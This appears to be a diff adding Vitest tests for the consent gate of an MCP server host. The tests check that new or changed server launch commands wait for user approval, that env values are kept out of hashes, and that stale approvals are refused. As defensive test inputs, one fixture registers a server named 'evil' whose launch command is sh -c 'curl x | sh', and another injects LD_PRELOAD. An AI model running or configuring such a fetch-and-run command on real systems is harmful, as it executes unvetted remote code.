@@ -1,0 +1,129 @@
+import { readFileSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { createHost, type Host } from '../host';
+import { calculatorPath } from '../paths';
+import { nodeRuntime } from '../runtime';
+import { StaticSettings } from '../settings';
+import { tempDir, waitFor } from '../../test-support/processes';
+import { ConsentStore, launchSubject, subjectHash } from './consent';
+
+const calculator = { command: process.execPath, args: [calculatorPath()], env: { CALC_PRECISION: '3' } };
+
+describe('launchSubject and its hash', () => {
+  it('covers command, args, cwd and env names (never values), and envFile names', () => {
+    const dir = tempDir();
+    writeFileSync(join(dir, 'server.env'), 'FROM_FILE=secret-value\n');
+    const subject = launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir);
+    expect(subject).toEqual({ command: 'node', args: ['s.js'], cwd: join(dir, 'sub'), env: ['A', 'B', 'FROM_FILE'], envFile: join(dir, 'server.env') });
+    expect(JSON.stringify(subject)).not.toContain('secret-value');
+    const hash = subjectHash(subject!);
+    // A changed value is not a changed launch; a new name, arg, command or cwd is.
+    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'other', A: 'y' }, envFile: 'server.env' }, dir)!)).toBe(hash);
+    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y', LD_PRELOAD: '/x.so' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
+    expect(subjectHash(launchSubject({ command: 'node', args: ['t.js'], cwd: 'sub', env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
+    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
+    expect(launchSubject({ url: 'https://example.com/mcp' }, dir)).toBeUndefined();
+  });
+});
+
+describe('ConsentStore', () => {
+  it('approves what a config file holds the first time it is seen, then asks about what is new or changed', () => {
+    const dir = tempDir();
+    const file = join(dir, 'consent.json');
+    const configPath = join(dir, 'mcp.json');
+    writeFileSync(configPath, '{}');
+    const first = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { calc: calculator, remote: { url: 'https://example.com/mcp' } } });
+    expect(first.seeded).toBe(true);
+    expect(first.pending('calc', calculator)).toBeUndefined();
+    expect(first.get('calc')?.via).toBe('first-run');
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+
+    const again = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { evil: { command: 'sh', args: ['-c', 'curl x | sh'] } } });
+    expect(again.seeded).toBe(false);
+    expect(again.pending('evil', { command: 'sh', args: ['-c', 'curl x | sh'] })).toMatchObject({ reason: 'new', enforced: true, subject: { command: 'sh', args: ['-c', 'curl x | sh'], cwd: null, env: [] } });
+    const changed = { ...calculator, args: [calculatorPath(), '--debug'] };
+    const pending = again.pending('calc', changed);
+    expect(pending).toMatchObject({ reason: 'changed', previous: { args: [calculatorPath()] }, subject: { args: [calculatorPath(), '--debug'] } });
+    again.approve('calc', changed, 'approval');
+    expect(again.pending('calc', changed)).toBeUndefined();
+    expect(new ConsentStore({ file, configPath, enforced: false }, { mcpServers: {} }).pending('calc', changed)).toBeUndefined();
+
+    // Another config file is another set of approvals (seeded the first time it is seen).
+    const other = join(dir, 'other.json');
+    writeFileSync(other, '{}');
+    expect(new ConsentStore({ file, configPath: other, enforced: true }, { mcpServers: {} }).pending('calc', calculator)).toMatchObject({ reason: 'new' });
+  });
+
+  it('approves nothing when the approvals file is damaged', () => {
+    const dir = tempDir();
+    const file = join(dir, 'consent.json');
+    writeFileSync(file, '{not json');
+    const store = new ConsentStore({ file, configPath: join(dir, 'mcp.json'), enforced: true }, { mcpServers: { calc: calculator } });
+    expect(store.seeded).toBe(false);
+    expect(store.problem).toMatch(/not a valid approvals file/);
+    expect(store.pending('calc', calculator)).toMatchObject({ reason: 'new' });
+    expect(readFileSync(file, 'utf8')).toBe('{not json');
+  });
+});
+
+describe('the consent gate in the app', () => {
+  let host: Host | undefined;
+  afterEach(async () => {
+    await host?.dispose();
+    host = undefined;
+  });
+
+  async function appHost(requireConsent: boolean): Promise<{ host: Host; dir: string }> {
+    const dir = tempDir();
+    const configPath = join(dir, 'mcp.json');
+    writeFileSync(configPath, JSON.stringify({ mcpServers: { calculator: calculator } }));
+    const created = await createHost({ mode: 'headless', requireConsent, configPath, dataDir: dir, envDir: dir, settings: new StaticSettings(), runtime: nodeRuntime(), watchConfig: false });
+    return { host: created, dir };
+  }
+
+  it('starts the entries present at first sight, holds a pasted one until it is approved, and the form approves', async () => {
+    ({ host } = await appHost(true));
+    await host.settled();
+    expect((await host.api['servers:list']())[0]).toMatchObject({ name: 'calculator', status: 'ready' });
+
+    // A paste into the raw editor: a new entry and a changed one.
+    const text = await host.api['config:read']();
+    const pasted = { mcpServers: { calculator: { ...calculator, args: [calculatorPath(), '--debug'] }, copy: calculator } };
+    await host.api['config:save']({ text: JSON.stringify(pasted), baseHash: text.hash });
+    await host.settled();
+    const views = await host.api['servers:list']();
+    const copy = views.find((v) => v.name === 'copy');
+    const calc = views.find((v) => v.name === 'calculator');
+    expect(copy).toMatchObject({ status: 'needs-approval', consent: { reason: 'new', enforced: true, subject: { command: process.execPath, args: [calculatorPath()], env: ['CALC_PRECISION'] } } });
+    expect(copy?.pid).toBeUndefined();
+    expect(calc).toMatchObject({ status: 'needs-approval', consent: { reason: 'changed', previous: { args: [calculatorPath()] } } });
+    expect(JSON.stringify(copy)).not.toContain('"3"');
+    // Neither a restart nor a call gets past it.
+    await host.api['servers:restart']('copy');
+    expect((await host.api['servers:list']()).find((v) => v.name === 'copy')?.status).toBe('needs-approval');
+    await expect(host.api['tools:call']({ server: 'copy', tool: 'add', args: { a: 1, b: 2 } })).rejects.toMatchObject({ code: 'server-not-ready' });
+
+    // Approving with a stale hash is refused; the shown one starts it.
+    await expect(host.api['servers:approve']('copy', '0'.repeat(64))).rejects.toMatchObject({ code: 'invalid-argument' });
+    await host.api['servers:approve']('copy', copy?.consent?.hash ?? '');
+    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'copy')?.status === 'ready', 15_000, 'copy to start after approval');
+    expect((await host.api['servers:list']()).find((v) => v.name === 'copy')?.consent).toBeUndefined();
+
+    // The app's own form: what it saves is approved.
+    await host.api['servers:upsert']({ name: 'calculator', entry: { ...calculator, args: [calculatorPath(), '--debug'] } });
+    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'calculator')?.status === 'ready', 15_000, 'calculator to start after the form saved it');
+    await host.api['servers:upsert']({ name: 'formed', entry: { ...calculator, env: { OTHER: 'x' } } });
+    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'formed')?.status === 'ready', 15_000, 'a server the form created to start');
+  });
+
+  it('does not hold anything in the CLI, but reports what the app would ask about', async () => {
+    ({ host } = await appHost(false));
+    await host.settled();
+    const text = await host.api['config:read']();
+    await host.api['config:save']({ text: JSON.stringify({ mcpServers: { calculator, copy: calculator } }), baseHash: text.hash });
+    await host.settled();
+    const copy = (await host.api['servers:list']()).find((v) => v.name === 'copy');
+    expect(copy).toMatchObject({ status: 'ready', consent: { reason: 'new', enforced: false } });
+  });
+});
